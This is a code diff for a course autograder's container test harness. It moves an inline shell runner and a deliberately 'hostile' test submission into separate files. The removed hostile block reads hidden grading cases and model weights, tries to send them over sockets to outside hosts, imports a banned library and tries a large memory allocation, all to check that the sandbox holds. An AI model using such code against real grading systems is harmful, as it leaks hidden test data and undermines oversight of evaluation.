@@ -41,66 +41,19 @@ import zipfile
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
-from course.grading.grade import RUBRIC
 from course.grading.gradescope import build
 from course.grading.settings import load_settings
-from course.paths import HIDDEN, REPO_ROOT
+from course.paths import HIDDEN, REPO_ROOT, RUBRIC
 from course.project import grader_python
 
 IMAGE = "cs336-gradescope-base:bookworm"
 ROOTFS = Path("/var/tmp/cs336-rootfs")
 MIRROR = "http://deb.debian.org/debian"
+PROGRAMS = Path(__file__).with_name("programs")
 # Inside the container: Gradescope's layout, setup once, then each submission in turn.
-RUN_SH = """#!/bin/bash
-set -u
-mkdir -p /autograder
-# A lent interpreter under /root (pyenv's): the sandbox's uid must reach it (search only).
-case "${CS336_GRADER_PYTHON:-}" in /root/*) chmod o+x /root ;; esac
-cp -r /work-in/source /autograder/source
-bash /autograder/source/setup.sh > /work-out/setup.log 2>&1 || { echo "setup.sh failed"; tail -30 /work-out/setup.log; exit 1; }
-tail -1 /work-out/setup.log
-cp /autograder/source/run_autograder /autograder/run_autograder
-for submission in /work-in/submissions/*; do
-    rm -rf /autograder/submission /autograder/results
-    cp -r "$submission" /autograder/submission
-    rm -f /autograder/submission_metadata.json
-    metadata="/work-in/metadata/$(basename "$submission").json"
-    if [ -f "$metadata" ]; then cp "$metadata" /autograder/submission_metadata.json; fi
-    bash /autograder/run_autograder > "/work-out/$(basename "$submission").log" 2>&1
-    cp /autograder/results/results.json "/work-out/$(basename "$submission").json"
-done
-"""
+RUN_SH = PROGRAMS / "docker_run.sh"
 # The hostile submission's adapters: every way out it can think of, then nothing implemented.
-HOSTILE = r"""
-import glob, json, os, socket, sys
-_found = []
-for _pattern in ("/autograder/source/course/cases/hidden/*/*/*", "/autograder/**/*.safetensors",
-                 os.path.join(os.path.dirname(sys.argv[0]), "..", "inputs", "*", "*")):
-    for _path in glob.glob(_pattern, recursive=True):
-        try:
-            _found.append(open(_path, "rb").read(64).hex())
-        except OSError:
-            pass
-print("LEAK", _found, file=sys.stderr)
-for _address in (("1.1.1.1", 53), ("pypi.org", 443)):
-    try:
-        socket.create_connection(_address, timeout=3).sendall(repr(_found).encode())
-        _found.append("GOT-network")
-    except OSError:
-        pass
-try:
-    import tiktoken  # noqa: F401  (blocked: the grading policy)
-    _found.append("GOT-tiktoken")
-except ImportError:
-    pass
-try:
-    _memory = os.memfd_create("hoard")
-    os.ftruncate(_memory, 2**31)
-    _found.append("GOT-memfd")
-except OSError:
-    pass
-raise RuntimeError("LEAK " + json.dumps(_found))
-"""
+HOSTILE = PROGRAMS / "hostile_adapters.py"
 
 
 def run(command: list[str], **options) -> subprocess.CompletedProcess:
@@ -142,7 +95,7 @@ def submissions(work: Path) -> dict[str, Path]:
             archive.extractall(folder)
         if name == "hostile":
             with open(folder / "tests" / "adapters.py", "a") as stream:
-                stream.write(HOSTILE)
+                stream.write("\n" + HOSTILE.read_text(encoding="utf-8"))
         folders[name] = folder
     return folders
 
@@ -297,7 +250,7 @@ def main(argv: list[str] | None = None) -> int:
         archive.extractall(args.work / "in" / "source")
     folders = submissions(args.work)
     policy_submissions(args.work, folders["reference"])
-    (args.work / "in" / "run.sh").write_text(RUN_SH)
+    shutil.copyfile(RUN_SH, args.work / "in" / "run.sh")
     cache = Path.home() / ".cache" / "uv"
     cache.mkdir(parents=True, exist_ok=True)
     run([
